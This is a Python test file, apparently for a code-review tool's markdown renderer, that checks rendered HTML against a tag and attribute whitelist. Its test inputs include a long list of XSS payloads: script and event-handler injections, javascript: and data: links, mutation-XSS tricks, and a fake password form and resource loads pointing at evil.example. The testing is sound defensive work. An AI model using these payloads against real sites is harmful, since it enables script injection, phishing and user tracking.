"""No text of a stranger becomes more than harmless HTML."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewflow.web.prose.markdown import html_of

TAGS = {
    'a', 'b', 'blockquote', 'br', 'code', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em', 'h4', 'h5', 'h6',
    'hr', 'i', 'ins', 'kbd', 'li', 'mark', 'ol', 'p', 'pre', 'q', 's', 'samp', 'small', 'span', 'strong',
    'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul', 'var',
}  # fmt: skip
ATTRIBUTES = {'align', 'aria-label', 'class', 'href', 'open', 'rel', 'role', 'start', 'target'}
VOID = {'br', 'hr'}


class Inspector(HTMLParser):
    """Reads HTML as a page would, and refuses what must not be in it."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        assert tag in TAGS
        assert set(given) <= ATTRIBUTES
        if tag == 'a':
            assert str(given['href']).lower().startswith(('http://', 'https://', 'mailto:'))
            assert (given['target'], given['rel']) == ('_blank', 'noopener noreferrer nofollow')
        assert given.get('class') in {None, '', 'task'}
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f'a comment: {data}')

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)


def inspected(text: str, *, host: str = 'https://github.example') -> str:
    html = html_of(text, host=host, repository='acme/api')
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.open == []
    return html


ATTACKS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/who-reads.png">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img alt="`" src=x onerror=alert(1) //">',
    '![a](https://evil.example/"onerror="alert(1))',
    '![a"onerror="alert(1)](https://evil.example/x.png)',
    '![a](javascript:alert(1))',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](java&#10;script:alert(1))',
    '[a](&#x6A;avascript:alert(1))',
    '[a](\x01javascript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](vbscript:msgbox)',
    '[a](file:///etc/passwd)',
    '[a]: javascript:alert(1)\n\n[a]',
    '<javascript:alert(1)>',
    '[a](https://evil.example/"onmouseover="alert(1))',
    '[a](<https://evil.example/ onmouseover=alert(1)>)',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="https://a.example" target="_self" rel="opener" style="position:fixed" class="q-btn">a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    '<svg/onload=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example)">a</p>',
    '<td style="text-align:left;background:url(https://evil.example)">a</td>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<input type="image" src="https://evil.example">',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example">',
    '<video src="https://evil.example" autoplay><source src="x"></video>',
    '<picture><source srcset="https://evil.example"><img src="x"></picture>',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<body onload=alert(1)>',
    '<div id="app" name="app" class="q-dialog" role="dialog" aria-label="Sign in">a</div>',
    '<p title="a" lang="x" dir="rtl" tabindex="1" accesskey="a" hidden data-x="y" v-html="x" :href="x">a',
    '<span role="button" aria-label="Approve" class="task">a</span>',
    '<textarea><script>alert(1)</script>',
    '<title><img src=x onerror=alert(1)></title>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?php <img src=x onerror=alert(1)> ?>',
    '<!DOCTYPE x [<!ENTITY y "z">]>',
    '<template><img src=x onerror=alert(1)></template>',
    '</div></div></body></html><h1>Outside</h1>',
    '</pre></details>unbalanced<b><i>',
    '<b><p><a href="https://a.example"><table><td><a href="https://b.example">',
    '```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
    '`</code><img src=x onerror=alert(1)>`',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '- [x] <img src=x onerror=alert(1)>',
    '> [!NOTE]<script>alert(1)</script>',
    '| <img src=x onerror=alert(1)> |\n|:-:|\n| "onload="x |',
    '@ann<script> #1<script> acme/"onload="#1',
    '{{ constructor.constructor("alert(1)")() }}',
    '\ufffd\ufffd <b \ufffd="x">',
]


@pytest.mark.parametrize('text', ATTACKS)
def test_an_attack_comes_to_nothing(text: str) -> None:
    inspected(text)


def test_attacks_do_not_help_each_other() -> None:
    for between in ('', '\n', '\n\n', ' ', '`', '<b>', '"'):
        inspected(between.join(ATTACKS))


def test_not_even_the_address_of_a_pull_breaks_out() -> None:
    assert 'onload' in inspected('#1', host='https://a.example/"onload="x')


PIECES = [
    *ATTACKS,
    *'<>&"\'`*_[]()!#@|\\-+=:/ \n\t',
    '<a href="', '<img ', '<table>', '<td>', '<b>', '</b>', '<pre>', '<li>', '<p>', '<details>',
    '<!--', '-->', '](', 'https://a.example', 'javascript:', ' onclick=x', '- [ ] ', '> ', '```', '\n\n',
    '    ', '&#x', '#1',
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30).map(''.join))
def test_any_mixture_of_what_means_something_is_harmless(text: str) -> None:
    inspected(text)


@given(st.text(max_size=300))
def test_any_text_is_harmless(text: str) -> None:
    inspected(text)
